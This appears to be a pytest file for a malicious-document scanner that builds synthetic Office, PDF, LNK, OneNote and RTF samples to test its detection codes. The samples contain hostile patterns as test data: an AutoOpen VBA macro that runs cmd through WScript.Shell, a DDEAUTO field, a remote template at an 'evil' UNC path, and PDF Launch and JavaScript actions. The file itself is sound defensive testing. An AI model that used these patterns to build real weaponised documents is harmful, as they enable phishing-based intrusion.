"""Documents, PDFs, shortcuts and notebooks, built byte by byte."""

import io
import random
import struct
import zipfile
import zlib

import pytest

from siftwright.operators import ole, payloads


def pack_ovba(data):
    """Literal chunks only."""
    out = b"\x01"
    for i in range(0, len(data), 4096 - 600):
        body = b"".join(b"\0" + data[j : j + 8] for j in range(i, min(i + 4096 - 600, len(data)), 8))
        out += struct.pack("<H", 0xB000 | (len(body) - 1)) + body
    return out


def compound(streams):
    """A compound file with all streams in regular sectors; storages are made from the paths."""
    sector, rows, blobs = 512, [["Root Entry", 5, -1, b""]], []
    index = {(): 0}
    for path, data in streams.items():
        for k in range(1, len(path)):
            if path[:k] not in index:
                index[path[:k]] = len(rows)
                rows.append([path[k - 1], 1, index[path[: k - 1]], b""])
        rows.append([path[-1], 2, index[path[:-1]], data])
    children = {}
    for i, r in enumerate(rows[1:], 1):
        children.setdefault(r[2], []).append(i)
    n_dir = (len(rows) * 128 + sector - 1) // sector
    fat = [0xFFFFFFFD] + [i + 2 if i + 1 < n_dir else 0xFFFFFFFE for i in range(n_dir)]
    out_dir, at = b"", 1 + n_dir
    for i, (name, kind, _, data) in enumerate(rows):
        start, n = (at, (len(data) + sector - 1) // sector) if kind == 2 else (0xFFFFFFFE, 0)
        fat += [at + j + 1 if j + 1 < n else 0xFFFFFFFE for j in range(n)]
        blobs.append(data.ljust(n * sector, b"\0"))
        at += n
        mates = children.get(rows[i][2], []) if i else []
        right = mates[mates.index(i) + 1] if i and mates.index(i) + 1 < len(mates) else 0xFFFFFFFF
        raw = name.encode("utf-16-le") + b"\0\0"
        out_dir += raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), kind, 1, 0xFFFFFFFF, right, children.get(i, [0xFFFFFFFF])[0]) + bytes(36) + struct.pack("<IQ", start, len(data))
    assert len(fat) <= 128
    head = ole.MAGIC + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 0, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    return head + struct.pack("<128I", *fat, *[0xFFFFFFFF] * (128 - len(fat))) + out_dir.ljust(n_dir * sector, b"\0") + b"".join(blobs)


def project(source, offset=0):
    record = lambda i, v: struct.pack("<HI", i, len(v)) + v
    d = record(3, struct.pack("<H", 1252)) + record(0x19, b"M") + record(0x1A, b"M") + record(0x31, struct.pack("<I", offset)) + record(0x2B, b"") + record(0x10, b"")
    return compound({("Macros", "VBA", "dir"): pack_ovba(d), ("Macros", "VBA", "M"): bytes(offset) + pack_ovba(source)})


EVIL = b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nCreateObject("WScript.Shell").Run "cmd /c x"\r\nEnd Sub\r\n'


def test_compound_files_and_macros():
    cf = ole.Compound(project(EVIL))
    assert [m.name for m in ole.modules(cf)] == ["M"] and "AutoOpen" in ole.modules(cf)[0].source and cf.read("macros", "vba", "nope") is None
    assert ole.modules(ole.Compound(project(b'Attribute VB_Name = "M"\r\n', 3000)))[0].stomped
    with pytest.raises(ole.Broken):
        ole.Compound(b"x" * 600)
    r = random.Random(0)
    base = project(EVIL)
    for _ in range(300):
        broken = bytearray(base)
        for _ in range(r.randint(1, 20)):
            broken[r.randrange(len(broken))] = r.randrange(256)
        payloads.facts_of(bytes(broken), "ole")


def test_ovba_and_rtf():
    assert ole.ovba(pack_ovba(b"abc" * 3000)) == b"abc" * 3000
    for bad in (b"", b"\x02", b"\x01\x02\xb0\xff\xff\xff"):
        with pytest.raises(ole.Broken):
            ole.ovba(bad)
    # MS-OXRTFCP 4.1.1
    data = bytes.fromhex("2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c090020627705b06c647d0a800fa0")
    assert ole.unpack_rtf(data) == b"{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n"


def _zip(members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for n, d in members.items():
            z.writestr(n, d)
    return b.getvalue()


def lnk(args, show=7):
    text = lambda s: struct.pack("<H", len(s)) + s.encode("utf-16-le")
    head = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + struct.pack("<I", 8 | 32 | 64 | 128)
    return head.ljust(60, b"\0") + struct.pack("<I", show).ljust(16, b"\0") + text("powershell.exe") + text(args) + text("shell32.dll") + struct.pack("<IIII", 96, 0xA0000003, 88, 0) + b"desk-7".ljust(80, b"\0") + bytes(4)


DOCX = {"[Content_Types].xml": "", "word/document.xml": '<w:instrText>DDEAUTO c:\\x "y"</w:instrText>', "word/vbaProject.bin": project(EVIL), "word/embeddings/a.exe": b"MZ" + bytes(100), "docProps/core.xml": "<dc:creator>Eve</dc:creator>", "word/_rels/settings.xml.rels": '<Relationship Type="http://s/attachedTemplate" Target="\\\\evil\\t.dotm" TargetMode="External"/><Relationship Type="http://s/image" Target="http://i.test/p.png" TargetMode="External"/>'}
PDF = b"%PDF-1.4\n1 0 obj<</OpenAction 2 0 R/J#53 (app.alert\\(1\\))>>endobj\n2 0 obj<</S/URI/URI(http://u.test/a\\)b)>>endobj\n3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n4 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\n" + zlib.compress(b"MZ" + bytes(200)) + b"\nendstream endobj\n5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(b"<</SubmitForm 1>>") + b"\nendstream endobj\n%%EOF"
ONE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(20) + payloads._ONENOTE + struct.pack("<Q", 30) + bytes(12) + b"<script>powershell x</script>".ljust(30)
RTF = b"{\\rtf1{\\object{\\*\\objclass Equation.3}{\\*\\objdata " + b"41" * 40 + b"}}}"


def test_findings(spark):
    files = {"docx": (_zip(DOCX), "docx"), "xlm": (_zip({"xl/macrosheets/sheet1.xml": "<f>EXEC(&quot;x&quot;)</f><f>a</f>"}), "xlsx"), "pdf": (PDF, "pdf"), "lnk": (lnk("-nop " + " " * 50 + "x"), "lnk"), "one": (ONE, "onenote"), "rtf": (RTF, "rtf"), "ole": (project(EVIL), "ole"), "bad": (b"\xd0\xcf", "ole"), "empty": (b"", "pdf"), "null": (None, "pdf"), "gif": (b"GIF89a", "gif")}
    a = spark.createDataFrame([("r", k, t, None if d is None else bytearray(d)) for k, (d, t) in files.items()], "report_id string, part string, detected_type string, payload binary")
    got = {}
    for r in payloads.findings(payloads.facts(a), a).collect():
        got.setdefault(r.location, {})[r.code] = r.severity
    assert {"MACRO_MALICIOUS_PATTERN", "DOC_DDE", "ATT_REMOTE_TEMPLATE", "DOC_REMOTE_IMAGE", "DOC_UNC_PATH", "DOC_METADATA", "DOC_EMBEDDED_OBJECT", "ATT_OFFICE_MACRO"} <= set(got["docx"]) and got["docx"]["DOC_EMBEDDED_OBJECT"] == "high"
    assert set(got["xlm"]) == {"MACRO_XLM"} and set(got["rtf"]) == {"RTF_EXPLOIT_CLASS", "DOC_EMBEDDED_OBJECT"} and "MACRO_MALICIOUS_PATTERN" in got["ole"]
    assert {"PDF_JAVASCRIPT", "PDF_LAUNCH", "PDF_LINKS", "PDF_SUBMIT_FORM", "PDF_OBFUSCATED_NAMES", "PDF_EMBEDDED_FILE"} <= set(got["pdf"]) and got["pdf"]["PDF_EMBEDDED_FILE"] == "high"
    assert set(got["lnk"]) == {"LNK_RUNS_COMMAND", "LNK_LONG_ARGUMENTS", "LNK_ICON_DISGUISE", "LNK_HIDDEN_WINDOW", "LNK_MACHINE_ID"} and got["one"] == {"ONENOTE_EMBEDDED_FILE": "high"}
    assert not {"bad", "empty", "null", "gif"} & set(got)


def test_broken_files_never_raise():
    r = random.Random(1)
    for kind, data in (("pdf", PDF), ("lnk", lnk("x")), ("onenote", ONE), ("rtf", RTF), ("docx", _zip(DOCX))):
        for _ in range(60):
            broken = bytearray(data[: r.randint(0, len(data))])
            for _ in range(r.randint(0, 10)):
                if broken:
                    broken[r.randrange(len(broken))] = r.randrange(256)
            payloads.facts_of(bytes(broken), kind)
